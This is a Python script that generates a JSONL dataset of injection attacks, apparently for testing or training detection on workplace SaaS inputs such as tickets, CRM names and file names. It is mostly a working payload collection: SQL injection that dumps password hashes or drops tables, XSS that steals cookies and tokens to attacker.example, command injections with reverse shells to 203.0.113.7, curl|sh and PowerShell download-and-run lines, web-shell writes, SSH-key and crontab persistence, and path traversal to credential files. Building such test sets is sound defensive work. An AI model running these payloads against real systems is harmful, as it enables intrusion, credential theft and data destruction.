#!/usr/bin/env python3
"""Write attacks.jsonl: fresh attacks composed for this corpus, placed the way
they reach a workplace SaaS API (helpdesk, team chat, wiki, CRM, localization
platform, analytics notebook): as the whole value, appended to a realistic
value (ticket title, UI string, spreadsheet cell, CRM name, file name, host),
and inside a sentence.

Standard library only, deterministic: random.Random(1617), same bytes on
every run. Attacker hosts are reserved names and documentation addresses
(attacker.example, 203.0.113.0/24). Every payload was written for this file;
none was copied from a payload list or dataset.
"""

import base64
import json
import os
import random
from urllib.parse import quote

rng = random.Random(1617)
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "attacks.jsonl")
MAX_LEN = 1800

SEEN = set()
ROWS = []


def pick(seq):
    return seq[rng.randrange(len(seq))]


def add(cat, cls, value):
    """Add one value; returns False (and adds nothing) when it is a repeat."""
    assert len(value) < MAX_LEN, (cls, value[:60])
    if value in SEEN:
        return False
    SEEN.add(value)
    ROWS.append((cat, "%s-%s" % (cat, cls), value))
    return True


def add_base(cat, items):
    for tech, v in items:
        assert add(cat, tech, v), (cat, v)


def fill(cat, target, gen):
    n = sum(1 for r in ROWS if r[0] == cat)
    tries = 0
    while n < target:
        tries += 1
        assert tries < 50000, cat
        tech, v = gen()
        if add(cat, tech, v):
            n += 1


# --- encoders ---------------------------------------------------------------

def urlenc(s):
    return quote(s, safe="")


def urlenc_soft(s):
    """What a browser / curl --data-urlencode leaves readable."""
    return quote(s, safe="/:.,()=*_-")


def dbl(s):
    return quote(quote(s, safe=""), safe="")


def ent_dec(s):
    return "".join("&#%d;" % ord(c) for c in s)


def ent_hex(s):
    return "".join("&#x%x;" % ord(c) for c in s)


def js_u(s):
    return "".join("\\u%04x" % ord(c) for c in s)


def b64(s):
    return base64.b64encode(s.encode()).decode()


def ps_enc(s):
    return base64.b64encode(s.encode("utf-16-le")).decode()


def php_str(s):
    return 's:%d:"%s";' % (len(s.encode()), s)


# --- workplace contexts -----------------------------------------------------

TICKET_TITLES = ["Printer on 3F offline", "VPN drops every 20 min", "Outlook search returns nothing",
                 "Need access to Finance share", "Laptop stuck at BitLocker screen", "Teams crashes on launch",
                 "Badge doesn't open B2-07", "Excel macro error 1004", "Wi-Fi CORP-SECURE not connecting",
                 "OneDrive stuck on Processing changes"]
UI_STRINGS = ["Welcome back, %s!", "You have {count} new messages", "Invoice {0} is due on {1:d}",
              "Bonjour %{name}", "Datei gespeichert", "{{count}} unread notifications", "Save changes",
              "Ticket %1$s assigned to %2$s", "Passwort vergessen?", "受信トレイ"]
SHEET_CELLS = ["Q3-EMEA", "Budget FY25", "Pipeline 2025", "Berlin", "Closed Won", "Müller & Co", "Tier 1",
               "Headcount", "North-East", "FY24 actuals"]
CRM_NAMES = ["Jean-Luc Dufresne", "Ana Pérez", "Acme Corp", "Zoë Ågren", "Kwame Asante", "Nordlys AB",
             "Hop and Barley Ltd", "Priya Raman", "Tomasz Kowalski", "Sakura Trading"]
FILE_NAMES = ["report.pdf", "Q3_summary.xlsx", "invoice_0325.pdf", "avatar.png", "notes.txt", "backup.tar.gz",
              "export-2025-03.csv", "logo.svg", "contract_v2.docx", "meeting.ics"]
HOSTS = ["printer-3f.corp.local", "10.0.4.12", "fs01", "mail.example.com", "8.8.8.8", "db-replica-1",
         "gw.example.net", "192.168.1.1", "status.example.com", "ntp.example.org"]
IDS = ["4471", "10293", "7", "88213", "512", "30001", "2025", "99"]

# ===========================================================================
# SQL injection
# ===========================================================================

SQLI = [
    ("tautology", "' OR '1'='1' -- "),
    ("comment-truncation", "admin'-- "),
    ("tautology", "1 OR 1=1"),
    ("tautology", "' OR 2>1#"),
    ("tautology", "') OR ('x'='x"),
    ("tautology", '" OR ""="'),
    ("union", "' UNION SELECT NULL,username,password_hash FROM users-- -"),
    ("union", "-1 UNION ALL SELECT 1,@@version,database(),user()#"),
    ("union", "0' UNION SELECT table_name,column_name,NULL FROM information_schema.columns WHERE table_schema=database()-- -"),
    ("union", "x' UNION SELECT string_agg(usename||':'||passwd,','),NULL FROM pg_shadow--"),
    ("union", "' UNION SELECT name,sql FROM sqlite_master WHERE type='table'--"),
    ("union", "1' UNION SELECT banner,NULL FROM v$version WHERE ROWNUM=1--"),
    ("union", "' UNION SELECT 1,group_concat(email,0x3a,api_token SEPARATOR 0x0a),3 FROM accounts-- -"),
    ("union", "9999 UNION SELECT TOP 1 name,password_hash,NULL FROM dbo.Users--"),
    ("stacked", "'; DROP TABLE tickets;--"),
    ("stacked", "1; UPDATE users SET role='admin' WHERE email='mallory@attacker.example';--"),
    ("stacked", "'; EXEC xp_cmdshell 'powershell -c \"iwr http://203.0.113.9/a.ps1|iex\"';--"),
    ("stacked", "'; INSERT INTO api_keys(user_id,token) VALUES(1,'atk_7f3c9e');--"),
    ("stacked", "'; EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;--"),
    ("time-blind", "1' AND SLEEP(5)-- -"),
    ("time-blind", "1' AND (SELECT 1 FROM (SELECT SLEEP(7))x)-- -"),
    ("time-blind", "'; SELECT pg_sleep(10)--"),
    ("time-blind", "1;WAITFOR DELAY '0:0:8'--"),
    ("time-blind", "1' AND 1=(CASE WHEN (SUBSTR(USER,1,1)='S') THEN DBMS_PIPE.RECEIVE_MESSAGE('a',6) ELSE 1 END)--"),
    ("time-blind", "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("time-blind", "1 AND BENCHMARK(9000000,SHA1('x'))"),
    ("time-blind", "' OR IF(MID(@@version,1,1)='8',SLEEP(4),0)-- -"),
    ("error-based", "' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT password FROM users LIMIT 1)))-- -"),
    ("error-based", "' AND updatexml(NULL,concat(0x3a,version(),0x3a,user()),NULL)-- -"),
    ("error-based", "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases WHERE database_id>4))--"),
    ("error-based", "' AND 1=CAST((SELECT string_agg(table_name,',') FROM information_schema.tables) AS int)--"),
    ("error-based", "' AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))--"),
    ("error-based", "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),0x3a,FLOOR(RAND(0)*2))k FROM information_schema.tables GROUP BY k)t)-- -"),
    ("error-based", "' HAVING 1=1--"),
    ("boolean-blind", "1' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a"),
    ("boolean-blind", "1 AND ASCII(SUBSTR((SELECT table_name FROM information_schema.tables LIMIT 1),1,1))>77"),
    ("boolean-blind", "' AND (SELECT COUNT(*) FROM users WHERE username='admin' AND password LIKE 'a%')>0-- "),
    ("boolean-blind", "x' AND (SELECT LENGTH(api_key) FROM integrations LIMIT 1)=32 AND 'a'='a"),
    ("order-by", "name ASC,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"),
    ("order-by", "(select if(substr(@@version,1,1)='8',sleep(3),0))"),
    ("order-by", "created_at DESC; DELETE FROM audit_log--"),
    ("order-by", "1,(SELECT 1 FROM pg_sleep(5))"),
    ("insert", "x', (SELECT password FROM users WHERE id=1))-- -"),
    ("insert", "hi'), ('spam','admin',now())-- "),
    ("insert", "bob@example.com', 'admin')#"),
    ("oob", "'; EXEC master..xp_dirtree '\\\\oob.attacker.example\\s';--"),
    ("oob", "' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.oob.attacker.example\\\\a'))-- -"),
    ("oob", "'||(SELECT EXTRACTVALUE(XMLTYPE('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://oob.attacker.example/'||(SELECT user FROM dual)||'\"> %x;]>'),'/l') FROM dual)||'"),
    ("oob", "'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.9/p|sh';--"),
    ("file-write", "' UNION SELECT '<?php system($_GET[\"c\"]); ?>',NULL INTO OUTFILE '/var/www/html/c.php'-- -"),
    ("file-read", "' UNION SELECT LOAD_FILE('/etc/passwd'),NULL-- -"),
    ("file-read", "'; SELECT pg_read_file('/etc/passwd');--"),
    ("string-concat", "'+(SELECT TOP 1 password_hash FROM users)+'"),
    ("string-concat", "'||(SELECT sqlite_version())||'"),
    ("auth-bypass", "admin' AND 1=0 UNION SELECT 'admin','5f4dcc3b5aa765d61d8327deb882cf99'-- "),
    ("like", "%' AND 1=0 UNION SELECT table_schema,table_name FROM information_schema.tables WHERE '%'='"),
    # evasions
    ("union+comments", "'/**/UNION/**/SELECT/**/password,NULL/**/FROM/**/users#"),
    ("union+mysql-versioned-comment", "'/*!50000UNION*//*!50000SELECT*/1,user(),3-- -"),
    ("union+case", "' UnIoN SeLeCt NuLl,UsEr(),VeRsIoN()-- -"),
    ("tautology+whitespace", "'\tOR\n1=1--\t"),
    ("tautology+urlenc", urlenc("' OR '1'='1")),
    ("union+double-urlenc", dbl("' UNION SELECT NULL,password FROM users--")),
    ("tautology+nospace", "'or(1)=(1)#"),
    ("tautology+hex-literal", "' OR username=0x61646d696e-- -"),
    ("union+newline-urlenc", "'%0aUNION%0aSELECT%0a1,2,3--%0a"),
    ("time-blind+case", "1' AnD sLeEp(5) AnD '1'='1"),
    ("time-blind+urlenc", urlenc("1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)")),
    ("tautology+comments", "'/**/OR/**/1/**/LIKE/**/1#"),
    ("stacked+double-urlenc", dbl("'; DROP TABLE sessions;--")),
    ("error-based+comments", "'/**/AND/**/EXTRACTVALUE(1,CONCAT(0x5c,(SELECT/**/@@hostname)))#"),
    ("boolean-blind+nospace", "1'AND(ASCII(SUBSTR((SELECT(password)FROM(users)LIMIT/**/1),1,1)))>64#"),
    ("tautology+nospace", "'||1#"),
    ("time-blind+whitespace", "1'%0bAND%0bSLEEP(5)%23"),
]

SQLI_STR = ["' OR 1=1-- -", "' UNION SELECT username,password FROM users-- -", "' AND SLEEP(6)#",
            "'; DROP TABLE contacts;--", "' AND 1=CONVERT(int,@@version)--", "' OR 'a'='a'#",
            "' UNION SELECT NULL,table_name FROM information_schema.tables-- -", "'; WAITFOR DELAY '0:0:6'--",
            "' AND extractvalue(1,concat(0x7e,user()))#", "') OR 1=1-- -", "'||pg_sleep(5)--",
            "' AND 1=(SELECT COUNT(*) FROM tabname); --"]
SQLI_STR_TECH = ["tautology", "union", "time-blind", "stacked", "error-based", "tautology", "union",
                 "time-blind", "error-based", "tautology", "time-blind", "boolean-blind"]
SQLI_NUM = [" OR 1=1", " UNION SELECT id,email,password FROM users--", " AND SLEEP(5)", ";SELECT pg_sleep(6)--",
            " AND 1=CAST(version() AS int)--", " ORDER BY 12--", " AND 1=2 UNION SELECT NULL,@@version--"]
SQLI_NUM_TECH = ["tautology", "union", "time-blind", "stacked", "error-based", "order-by-probe", "union"]
SQLI_SENT = ["Hi, please check ticket {v}{p} thanks!", "Customer name is {v}{p} — can you pull the invoices?",
             "Search for {v}{p} in the CRM returned an error", "Could you rename the sheet to {v}{p} please",
             "the key {v}{p} is missing in the German file"]


def gen_sqli():
    t = rng.randrange(4)
    if t == 0:
        i = rng.randrange(len(SQLI_STR))
        v = pick(TICKET_TITLES + CRM_NAMES + SHEET_CELLS) + SQLI_STR[i]
        tech = SQLI_STR_TECH[i]
    elif t == 1:
        i = rng.randrange(len(SQLI_NUM))
        v = pick(IDS) + SQLI_NUM[i]
        tech = SQLI_NUM_TECH[i]
    else:
        if rng.randrange(2):
            i = rng.randrange(len(SQLI_STR))
            p, tech, base = SQLI_STR[i], SQLI_STR_TECH[i], pick(CRM_NAMES + SHEET_CELLS)
        else:
            i = rng.randrange(len(SQLI_NUM))
            p, tech, base = SQLI_NUM[i], SQLI_NUM_TECH[i], pick(IDS)
        if not p.rstrip().endswith(("--", "-- -", "#")):
            p = p + "-- -"
        v = pick(SQLI_SENT).format(v=base, p=p)
    if rng.randrange(5) == 0:
        return tech + "+urlenc", urlenc_soft(v)
    return tech, v


# ===========================================================================
# XSS
# ===========================================================================

DATA_HTML = b64("<script>alert(document.domain)</script>")

XSS = [
    ("script-tag", "<script>alert(document.domain)</script>"),
    ("script-src", "<script src=//attacker.example/x.js></script>"),
    ("event-handler", "<img src=x onerror=alert(1)>"),
    ("svg", "<svg onload=alert(document.cookie)>"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event-handler", "<body onload=fetch('//attacker.example/c?'+document.cookie)>"),
    ("javascript-url", "<iframe src=\"javascript:alert(origin)\"></iframe>"),
    ("javascript-url", "<a href=\"javascript:alert(document.cookie)\">View invoice</a>"),
    ("event-handler", "<details open ontoggle=alert(1)>"),
    ("event-handler", "<input autofocus onfocus=alert(1)>"),
    ("event-handler", "<video><source onerror=\"alert(1)\">"),
    ("mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("attribute-breakout", "\"><script>alert(1)</script>"),
    ("attribute-injection", "\" onmouseover=\"alert(1)"),
    ("attribute-injection", "' autofocus onfocus='alert(document.domain)"),
    ("tag-breakout", "</textarea><script>alert(1)</script>"),
    ("tag-breakout", "</title><img src=x onerror=alert(1)>"),
    ("js-string-breakout", "';alert(String.fromCharCode(88,83,83));//"),
    ("js-string-breakout", "\\';alert(1);//"),
    ("script-breakout", "</script><script>alert(1)</script>"),
    ("template-literal", "${alert(document.domain)}"),
    ("angular-template", "{{constructor.constructor('alert(1)')()}}"),
    ("vue-template", "{{_c.constructor('alert(document.cookie)')()}}"),
    ("data-url", "<object data=\"data:text/html;base64,%s\"></object>" % DATA_HTML),
    ("javascript-url", "<form action=javascript:alert(1)><button>Submit ticket</button></form>"),
    ("event-handler", "<marquee onstart=alert(1)>breaking news</marquee>"),
    ("event-handler", "<x onclick=alert(1) style=display:block;width:100%;height:9999px>click anywhere</x>"),
    ("exfiltration", "<img src=x onerror=\"fetch('https://attacker.example/k',{method:'POST',body:localStorage.getItem('token')})\">"),
    ("eval-atob", "<svg/onload=eval(atob('%s'))>" % b64("alert(document.cookie)")),
    ("dynamic-import", "<img src=1 onerror=import('//attacker.example/m.js')>"),
    ("css-injection", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("css-injection", "<link rel=stylesheet href=//attacker.example/s.css>"),
    ("base-tag", "<base href=\"https://attacker.example/\">"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("javascript-url", "javascript:alert(document.domain)"),
    ("data-url", "data:text/html,<script>alert(1)</script>"),
    ("svg-animate", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Open</text></a></svg>"),
    ("iframe-srcdoc+html-entities", "<iframe srcdoc=\"&lt;script&gt;alert(parent.document.cookie)&lt;/script&gt;\"></iframe>"),
    ("markdown-link", "[Click here for the updated invoice](javascript:alert(document.cookie))"),
    ("markdown-image", "![screenshot](x\" onerror=\"alert(1))"),
    ("event-handler+tagged-template", "<img src=x:x onerror=alert`1`>"),
    ("event-handler+html-entities", "<svg onload=alert&lpar;1&rpar;>"),
    ("javascript-url+dec-entities", "<a href=\"%salert(1)\">open</a>" % ent_dec("javascript:")),
    ("javascript-url+hex-entities", "<a href=\"%s\">docs</a>" % ent_hex("javascript:alert(document.domain)")),
    ("javascript-url+tab", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    ("script-tag+case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("svg+slash-separator", "<svg/onload=alert(1)>"),
    ("event-handler+unclosed", "<img src=x onerror=alert(1)//"),
    ("script-tag+urlenc", urlenc("<script>alert(1)</script>")),
    ("event-handler+double-urlenc", dbl("<img src=x onerror=alert(1)>")),
    ("event-handler+unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("event-handler+hex-escape", "\\x3cimg src=x onerror=alert(document.domain)\\x3e"),
    ("event-handler+js-unicode-escape", "<img src=x onerror=\\u0061lert(1)>"),
    ("svg+concatenation", "<svg onload=top[`al`+`ert`](1)>"),
    ("event-handler+concatenation", "<img src onerror=window['ev'+'al'](atob('%s'))>" % b64("fetch('//attacker.example/'+document.cookie)")),
    ("svg-script+html-entities", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("event-handler+case", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("event-handler+newline", "<img\nsrc=x\nonerror=alert(1)>"),
    ("javascript-url+case-whitespace", "<a href=\" JaVaScRiPt:alert(1)\">profile</a>"),
    ("event-handler+unicode-escape", js_u("<img src=1 onerror=alert(1)>")),
]

XSS_CTX = ["<img src=x onerror=alert(document.domain)>", "<svg onload=alert(1)>",
           "<script>fetch('//attacker.example/?c='+document.cookie)</script>", "<details open ontoggle=alert(origin)>",
           "\"><svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>details</a>",
           "<img src=1 onerror=location='//attacker.example/?'+document.cookie>", "<body onpageshow=alert(1)>",
           "<video src=x onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<script src=https://attacker.example/h.js></script>"]
XSS_CTX_TECH = ["event-handler", "svg", "script-tag", "event-handler", "attribute-breakout", "javascript-url",
                "javascript-url", "exfiltration", "event-handler", "event-handler", "event-handler", "script-src"]
XSS_SENT = ["Thanks for the quick fix! {p} See you on Monday.", "Customer wrote: {p} (copied from their email)",
            "New team name: Sales EMEA {p}", "Meeting notes — {p} — action items below",
            "Translation for 'Save': Speichern {p}"]


def gen_xss():
    i = rng.randrange(len(XSS_CTX))
    p, tech = XSS_CTX[i], XSS_CTX_TECH[i]
    t = rng.randrange(3)
    if t == 0:
        v = pick(TICKET_TITLES + CRM_NAMES) + " " + p
    elif t == 1:
        v = pick(UI_STRINGS) + p
    else:
        v = pick(XSS_SENT).format(p=p)
    r = rng.randrange(6)
    if r == 0:
        return tech + "+urlenc", urlenc_soft(v)
    return tech, v


# ===========================================================================
# OS command injection
# ===========================================================================

CMDI = [
    ("semicolon", "; id"),
    ("pipe", "| cat /etc/passwd"),
    ("and", "&& whoami"),
    ("or", "|| uname -a"),
    ("backtick", "`id`"),
    ("dollar-paren", "$(whoami)"),
    ("time-based", "; sleep 10"),
    ("time-based", "| ping -c 10 127.0.0.1"),
    ("time-based-windows", "& ping -n 11 127.0.0.1 &"),
    ("oob-http", "; curl http://attacker.example/$(whoami)"),
    ("oob-dns", "$(nslookup $(hostname).oob.attacker.example)"),
    ("reverse-shell", "; bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'"),
    ("reverse-shell", "| nc 203.0.113.7 4444 -e /bin/sh"),
    ("reverse-shell", "; rm -f /tmp/q;mkfifo /tmp/q;cat /tmp/q|/bin/sh -i 2>&1|nc 203.0.113.7 9001 >/tmp/q"),
    ("reverse-shell", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
    ("download-exec", "; wget -qO- http://attacker.example/i.sh | sh"),
    ("file-write", "; echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/c.php"),
    ("file-write", "; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq7mK2fXc9Lr0vT4pYw8sN1bE6gJ3dU5oQxZaRkW2Pm op@attacker.example' >> ~/.ssh/authorized_keys"),
    ("windows-ampersand", "& type C:\\Windows\\win.ini"),
    ("windows-ampersand", "& net user svc_backup Winter2025! /add & net localgroup administrators svc_backup /add"),
    ("powershell", "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("powershell+base64", "| powershell -nop -enc " + ps_enc("IEX (iwr -UseBasicParsing http://attacker.example/r.ps1)")),
    ("certutil", "| certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("newline+urlenc", "%0aid"),
    ("newline", "\ncat /etc/passwd\n"),
    ("semicolon+ifs", ";cat${IFS}/etc/passwd"),
    ("semicolon+brace-expansion", ";{cat,/etc/passwd}"),
    ("semicolon+quote-splitting", ";c'a't /e\"t\"c/pa''sswd"),
    ("semicolon+backslash-splitting", ";c\\at /et\\c/pas\\swd"),
    ("semicolon+glob", ";/???/??t /???/p??s??"),
    ("semicolon+variable-concat", ";a=ca;b=t;$a$b /etc/passwd"),
    ("pipe+base64", ";echo %s|base64 -d|sh" % b64("cat /etc/passwd")),
    ("windows-ampersand+caret", "& w^h^o^a^m^i"),
    ("windows-ampersand+caret", "| c^m^d /c \"set\""),
    ("argument-injection", "-o /var/www/html/shell.php http://attacker.example/s.txt"),
    ("argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh x.sh"),
    ("argument-injection", "--upload-pack=touch /tmp/pwned"),
    ("argument-injection", "-oProxyCommand=sh -c 'curl http://attacker.example/s|sh'"),
    ("argument-injection", "x -exec sh -c 'id>/tmp/o' ;"),
    ("dollar-paren+ifs", "$(sleep${IFS}5)"),
    ("oob-dns", "; nslookup `whoami`.attacker.example"),
    ("semicolon+substring", ";cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("dollar-paren+printf-hex", ";$(printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64')"),
    ("pipe+hex", "| echo 636174202f6574632f706173737764 | xxd -r -p | sh"),
    ("semicolon", ";awk 'BEGIN{system(\"id\")}'"),
    ("exfiltration", "; curl -d @/etc/passwd http://attacker.example/up"),
    ("quote-breakout", "' ; id ; '"),
    ("quote-breakout", "\"; id; \""),
    ("dollar-paren", "\"$(id)\""),
    ("semicolon", "127.0.0.1; cat /etc/shadow"),
    ("and", "8.8.8.8 && curl http://203.0.113.5/x.sh|bash"),
    ("newline+urlenc", "example.com%0Aid"),
    ("semicolon+urlenc", "%3B%20id"),
    ("powershell", "'; Invoke-WebRequest -Uri http://attacker.example/x -Method POST -Body (Get-Content $env:USERPROFILE\\.aws\\credentials -Raw); '"),
    ("dollar-paren", "$(curl -s http://attacker.example/x|sh)"),
    ("semicolon", ";sh -c \"$(curl -fsSL http://attacker.example/i)\""),
    ("reverse-shell", "|| php -r '$s=fsockopen(\"203.0.113.7\",443);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("file-write", "; echo \"* * * * * root curl -s http://attacker.example/c|sh\" >> /etc/crontab"),
    ("reverse-shell", ";busybox nc 203.0.113.7 4444 -e sh"),
    ("windows-ampersand", "& cmd.exe /c \"echo pwned > C:\\inetpub\\wwwroot\\p.txt\""),
    ("backtick-time-based", "`sleep 8`"),
    ("semicolon+backslash-splitting", ";i\\d"),
    ("and+ifs", "&&${IFS}id"),
    ("semicolon+brace-expansion", ";{ping,-c,5,203.0.113.4}"),
    ("pipe+double-urlenc", dbl("| id")),
    ("semicolon+tab", ";\tcat\t/etc/hostname"),
    ("windows-pipe+env-substring", "| %COMSPEC:~-7,1%%COMSPEC:~-6,1%%COMSPEC:~-5,1% /c whoami"),
]

CMDI_CTX = ["; id", "| whoami", "&& curl http://attacker.example/$(id -u)", "$(sleep 7)", "`uname -a`",
            "; nc 203.0.113.7 4444 -e /bin/bash", "| wget -qO- http://203.0.113.12/s|sh", "& ping -n 8 127.0.0.1",
            "; cat /etc/passwd", "|| bash -i >& /dev/tcp/203.0.113.7/8443 0>&1", ";cat${IFS}/etc/shadow",
            "& whoami /priv"]
CMDI_CTX_TECH = ["semicolon", "pipe", "oob-http", "dollar-paren", "backtick", "reverse-shell", "download-exec",
                 "time-based-windows", "semicolon", "reverse-shell", "semicolon+ifs", "windows-ampersand"]
CMDI_SENT = ["please convert {v} {p} # to PDF", "diagnostics: ping {v} {p} #", "uploaded {v} {p} # for review",
             "can you check {v}{p} # thanks"]


def gen_cmdi():
    i = rng.randrange(len(CMDI_CTX))
    p, tech = CMDI_CTX[i], CMDI_CTX_TECH[i]
    t = rng.randrange(3)
    base = pick(FILE_NAMES + HOSTS)
    if t == 0:
        v = base + p
    elif t == 1:
        v = base + " " + p
    else:
        while p.startswith("&") and not p.startswith("&&"):
            i = rng.randrange(len(CMDI_CTX))
            p, tech = CMDI_CTX[i], CMDI_CTX_TECH[i]
        v = pick(CMDI_SENT).format(v=base, p=p)
    if rng.randrange(5) == 0:
        return tech + "+urlenc", urlenc_soft(v)
    return tech, v


# ===========================================================================
# Path traversal
# ===========================================================================

TRAV = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "../../../../../../etc/shadow"),
    ("dotdot-windows", "..\\..\\..\\..\\Windows\\win.ini"),
    ("dotdot-windows", "..\\..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"),
    ("nested-strip", "....//....//....//etc/passwd"),
    ("nested-strip", "..././..././..././etc/passwd"),
    ("dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("dotdot+urlenc-slash", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("dotdot+overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("dotdot-windows+iis-u-encoding", "..%u005c..%u005c..%u005cwindows%u005cwin.ini"),
    ("dotdot-windows+urlenc", "..%5c..%5c..%5cboot.ini"),
    ("semicolon-path-parameter", "..;/..;/..;/WEB-INF/web.xml"),
    ("semicolon-path-parameter", "/static/..;/manager/html"),
    ("null-byte", "../../../../etc/passwd%00.png"),
    ("dotdot", "../../../../proc/self/environ"),
    ("absolute-linux", "/etc/passwd"),
    ("absolute-windows", "C:\\Windows\\System32\\config\\SAM"),
    ("absolute-windows", "C:/inetpub/wwwroot/web.config"),
    ("file-url", "file:///etc/passwd"),
    ("file-url", "file://localhost/c:/windows/win.ini"),
    ("php-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("php-wrapper", "php://filter/read=string.rot13/resource=index.php"),
    ("php-wrapper", "zip://uploads/avatar.jpg%23shell.php"),
    ("php-wrapper", "phar://uploads/invoice.pdf/test.txt"),
    ("unc-path", "\\\\203.0.113.20\\share\\x.txt"),
    ("unc-path", "//203.0.113.20/share/payload.dll"),
    ("absolute-dotdot", "/var/www/html/../../../etc/passwd"),
    ("dotdot", "uploads/../../../../../root/.ssh/id_rsa"),
    ("dotdot", "../../../../home/ubuntu/.aws/credentials"),
    ("dotdot", "../../../.env"),
    ("dotdot", "../../../../var/log/nginx/access.log"),
    ("nested-strip-windows", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("dotdot+double-urlenc-slash", "..%252f..%252f..%252fetc%252fpasswd"),
    ("dotdot+fullwidth", "．．／．．／．．／etc／passwd"),
    ("dotdot+fullwidth-urlenc", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("dot-segments", "/./././././../../../etc/hosts"),
    ("dotdot+urlenc-dots", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("dotdot+half-urlenc", ".%2e/.%2e/.%2e/etc/passwd"),
    ("dotdot-mixed-slashes", "..\\/..\\/..\\/..\\/windows/win.ini"),
    ("proc-self", "/proc/self/cwd/config/database.yml"),
    ("dotdot", "../../../../../../../../../../../../etc/passwd"),
    ("dotdot-windows+urlenc", "..%2F..%2F..%2F..%2FWindows%2Fwin.ini"),
    ("dotdot-windows", "\\..\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("dotdot", "../../WEB-INF/classes/application.properties"),
    ("dotdot+urlenc-slash", "/static/..%2f..%2f..%2fetc/passwd"),
    ("dotdot-windows+urlenc", "..%5c..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam"),
    ("query-truncation", "../../../etc/passwd?.pdf"),
    ("dotdot-windows+overlong-utf8", "..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("nested-strip", "....//....//....//....//var/www/app/.git/config"),
    ("absolute-linux", "/root/.bash_history"),
    ("file-url", "file:///C:/Users/Administrator/NTUSER.DAT"),
    ("zip-slip", "../../../../../../var/www/html/shell.jsp"),
    ("dotdot", "data/../../../../../../etc/passwd"),
    ("dotdot+iis-u-encoding", "%u002e%u002e%u002f%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"),
    ("absolute-linux", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("dotdot+case", "..\\..\\..\\WiNdOwS\\sYsTeM32\\DrIvErS\\eTc\\HoStS"),
]

TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_rsa", "app/.env",
                "var/www/html/config.php", "Windows/win.ini", "home/deploy/.bash_history", "etc/hosts",
                "opt/app/config/secrets.yml"]
TRAV_WIN_TARGETS = ["Windows\\win.ini", "inetpub\\wwwroot\\web.config", "Users\\Administrator\\.ssh\\id_rsa",
                    "ProgramData\\App\\appsettings.json", "Windows\\System32\\drivers\\etc\\hosts",
                    "Windows\\Panther\\Unattend.xml", "Windows\\repair\\SAM"]
TRAV_PREFIX = ["uploads/", "attachments/2025/03/", "templates/", "locales/de/", "exports/", "avatars/",
               "wiki/files/", "static/img/", "", "reports/q3/"]


def gen_trav():
    depth = rng.randrange(3, 9)
    tgt = pick(TRAV_TARGETS)
    t = rng.randrange(6)
    if t == 0:
        return "dotdot", pick(TRAV_PREFIX) + "../" * depth + tgt
    if t == 1:
        return "dotdot-windows", pick(TRAV_PREFIX).replace("/", "\\") + "..\\" * depth + pick(TRAV_WIN_TARGETS)
